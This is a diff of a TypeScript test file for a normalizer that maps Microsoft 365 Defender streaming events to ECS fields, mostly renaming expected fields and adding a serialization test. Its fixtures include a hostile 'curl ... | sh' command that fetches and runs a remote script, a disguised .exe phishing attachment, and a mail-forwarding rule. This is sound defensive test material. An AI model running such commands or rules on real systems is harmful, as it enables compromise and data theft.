@@ -5,6 +5,7 @@ import { test } from 'node:test';
 import type { NormalizedEvent } from '../../shared/model/event';
 import { isoTime, decodeJson } from '../../shared/normalize/coerce';
 import { processStreamingMessages } from '../../shared/pipeline/streaming';
+import { serializeEvent } from '../../shared/model/serialize';
 
 /** The repo's own samples: one Event Hubs body per line, every streamable table. */
 const SAMPLES = path.join(__dirname, '..', '..', '..', 'samples', 'streaming');
@@ -29,7 +30,7 @@ const EXPECTED: Record<string, Record<string, unknown>> = {
     'process.command_line': 'whoami.exe /all', 'process.pid': 8844, 'process.parent.name': 'powershell.exe', 'process.parent.pid': 7312,
     'process.parent.parent.name': 'explorer.exe', 'process.hash.sha256': 'a7f2b8e4c1d3f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0',
     '@timestamp': '2026-11-23T10:01:02.123Z', 'm365_defender.timestamp': '2026-11-23T10:01:02.1234567Z', 'm365_defender.report_id': '4294967301',
-    'm365_defender.properties.AdditionalFields': { InitiatingProcessAccountType: 'User' },
+    'm365_defender.decoded.AdditionalFields': { InitiatingProcessAccountType: 'User' },
   },
   DeviceNetworkEvents: {
     'event.category': ['network'], 'event.type': ['connection', 'start'], 'source.ip': '10.20.30.40', 'source.port': 51544,
@@ -51,15 +52,15 @@ const EXPECTED: Record<string, Record<string, unknown>> = {
   DeviceImageLoadEvents: { 'event.category': ['library'], 'file.name': 'amsi.dll', 'process.name': 'powershell.exe' },
   DeviceEvents: {
     'event.category': ['host'], 'event.action': 'AntivirusDetection', 'file.name': 'invoice_2026.pdf.exe', 'destination': undefined,
-    'm365_defender.properties.AdditionalFields': { ThreatName: 'Trojan:Win32/Wacatac.B!ml', WasExecutingWhileDetected: false, WasRemediated: true, Action: 'quarantine' },
+    'm365_defender.decoded.AdditionalFields': { ThreatName: 'Trojan:Win32/Wacatac.B!ml', WasExecutingWhileDetected: false, WasRemediated: true, Action: 'quarantine' },
   },
   DeviceInfo: {
     'event.kind': 'state', 'event.category': ['host'], 'host.os.platform': 'Windows11', 'host.ip': ['203.0.113.9'], 'host.type': 'Workstation',
-    'm365_defender.properties.LoggedOnUsers': [{ UserName: 'alice', DomainName: 'CONTOSO', Sid: 'S-1-5-21-1004336348-1177238915-682003330-1105' }],
-    'm365_defender.properties.AdditionalFields': null,
+    'm365_defender.decoded.LoggedOnUsers': [{ UserName: 'alice', DomainName: 'CONTOSO', Sid: 'S-1-5-21-1004336348-1177238915-682003330-1105' }],
+    'm365_defender.decoded.AdditionalFields': undefined,
   },
   DeviceNetworkInfo: {
-    'host.ip': ['10.20.30.40', 'fe80::215:5dff:fe01:203'], 'm365_defender.properties.DnsAddresses': ['10.0.0.53'],
+    'host.ip': ['10.20.30.40', 'fe80::215:5dff:fe01:203'], 'm365_defender.decoded.DnsAddresses': ['10.0.0.53'],
     'm365_defender.timestamp': '2026-11-23T10:00:00.0000001Z', '@timestamp': '2026-11-23T10:00:00.000Z',
   },
   DeviceFileCertificateInfo: { 'file.hash.sha1': 'b1946ac92492d2347c6235b4d2611184b1946ac9', 'host.name': 'ws-alice01.contoso.com' },
@@ -77,13 +78,13 @@ const EXPECTED: Record<string, Record<string, unknown>> = {
   EmailEvents: {
     'event.category': ['email'], 'email.from.address': ['billing@example.net'], 'email.to.address': ['alice@contoso.com'], 'email.direction': 'inbound',
     'email.subject': 'Invoice 2026-11 \u2013 payment overdue (Azure\u00c2\u00ae)', 'email.message_id': '<CAF1234567890@mail.example.net>', 'source.ip': '192.0.2.44',
-    'm365_defender.properties.AuthenticationDetails': { SPF: 'fail', DKIM: 'none', DMARC: 'fail', CompAuth: 'fail' },
+    'm365_defender.decoded.AuthenticationDetails': { SPF: 'fail', DKIM: 'none', DMARC: 'fail', CompAuth: 'fail' },
   },
   EmailAttachmentInfo: { 'event.category': ['email', 'file'], 'file.name': 'invoice_2026.pdf.exe', 'file.hash.sha256': '5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592' },
   EmailUrlInfo: { 'url.original': 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', 'url.domain': 'files.example.org' },
   EmailPostDeliveryEvents: { 'event.action': 'Phish ZAP', 'email.to.address': ['alice@contoso.com'] },
   UrlClickEvents: { 'event.category': ['web'], 'url.original': 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', 'source.ip': '203.0.113.9', 'user.email': 'alice@contoso.com' },
-  MessageEvents: { 'email.from.address': ['mallory@fabrikam.example'], 'm365_defender.properties.ThreatTypes': ['Phish'] },
+  MessageEvents: { 'email.from.address': ['mallory@fabrikam.example'], 'm365_defender.decoded.ThreatTypes': ['Phish'] },
   MessageUrlInfo: { 'url.domain': 'login.fabrikam-secure.example' },
   MessagePostDeliveryEvents: { 'event.action': 'Phish ZAP', 'email.from.address': ['mallory@fabrikam.example'] },
   IdentityLogonEvents: {
@@ -95,12 +96,12 @@ const EXPECTED: Record<string, Record<string, unknown>> = {
   IdentityInfo: { 'event.kind': 'state', 'event.type': ['info', 'user'], 'user.name': 'alice', 'user.email': 'alice@contoso.com' },
   CloudAppEvents: {
     'user.name': 'Alice Anders', 'source.ip': '192.0.2.200', 'source.geo.country_iso_code': 'NL',
-    'm365_defender.properties.RawEventData': { Operation: 'New-InboxRule', Parameters: [{ Name: 'ForwardTo', Value: 'drop@example.net' }] },
-    'm365_defender.properties.AdditionalFields': null,
+    'm365_defender.decoded.RawEventData': { Operation: 'New-InboxRule', Parameters: [{ Name: 'ForwardTo', Value: 'drop@example.net' }] },
+    'm365_defender.decoded.AdditionalFields': undefined,
   },
   CloudAuditEvents: { 'source.ip': '192.0.2.200', 'event.action': 'Microsoft.Authorization/roleAssignments/write' },
   CloudProcessEvents: { 'process.name': 'curl', 'process.command_line': 'curl -s http://198.51.100.99/x.sh | sh', 'process.parent.name': 'sh', 'user.name': 'root' },
-  CloudStorageAggregatedEvents: { 'source.ip': '198.51.100.99', 'm365_defender.properties.OperationNamesList': ['GetBlob', 'ListBlobs'] },
+  CloudStorageAggregatedEvents: { 'source.ip': '198.51.100.99', 'm365_defender.decoded.OperationNamesList': ['GetBlob', 'ListBlobs'] },
 };
 
 /** Streamable tables named in the field guide, plus the newer ones real streams carry. */
@@ -163,9 +164,11 @@ test('JSON-encoded columns decode from strings, objects, "", "[]" and null', () 
   for (const v of variants) {
     const r = processStreamingMessages([{ body: { category: 'AdvancedHunting-DeviceEvents', properties: { AdditionalFields: v, AttackTechniques: v, DeviceName: 'h' } }, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal: false });
     assert.equal(r.failures.length, 0);
-    const af = (r.events[0].event.m365_defender.properties as Record<string, unknown>).AdditionalFields;
-    if (v === '' || v === '[]' || v === null) assert.equal(af, null);
+    const m = r.events[0].event.m365_defender;
+    const af = (m.decoded as Record<string, unknown> | undefined)?.AdditionalFields;
+    if (v === '' || v === '[]' || v === null) assert.equal(af, undefined);
     else assert.deepEqual(af, { CallerProcessID: 4248 });
+    assert.deepEqual((m.properties as Record<string, unknown>).AdditionalFields, v, 'properties stay verbatim');
   }
 });
 
@@ -201,7 +204,8 @@ test('unknown categories are kept and normalized generically, never dropped', ()
   assert.equal(a.host?.name, 'newhost');
   assert.equal(a.user?.name, 'zed');
   assert.equal(a.source?.ip, '192.0.2.1');
-  assert.deepEqual((a.m365_defender.properties as Record<string, unknown>).Blob, { k: [1, 2] });
+  assert.deepEqual((a.m365_defender.decoded as Record<string, unknown>).Blob, { k: [1, 2] });
+  assert.equal((a.m365_defender.decoded as Record<string, unknown>).Plain, undefined);
   assert.equal((a.m365_defender.properties as Record<string, unknown>).Plain, '[not json');
   assert.equal(b.m365_defender.table, 'NotEvenAdvancedHunting');
   assert.deepEqual(b.m365_defender.properties, { x: 1 });
@@ -218,4 +222,12 @@ test('event.id is deterministic and content-derived; INCLUDE_ORIGINAL adds event
   assert.notEqual(a.event.id, id({ ...rec, tenantId: 'u' }).event.id);
   assert.equal(a.event.original, undefined);
   assert.equal(id(rec, true).event.original, JSON.stringify(rec));
+});
+
+test('serializeEvent gives the same JSON members as JSON.stringify, without re-walking the properties', () => {
+  for (const e of loadSampleEvents()) {
+    assert.deepEqual(JSON.parse(serializeEvent(e)), JSON.parse(JSON.stringify(e)));
+  }
+  const plain = JSON.parse(JSON.stringify(loadSampleEvents()[0])) as NormalizedEvent;
+  assert.equal(serializeEvent(plain), JSON.stringify(plain), 'an event without cached properties JSON falls back to JSON.stringify');
 });
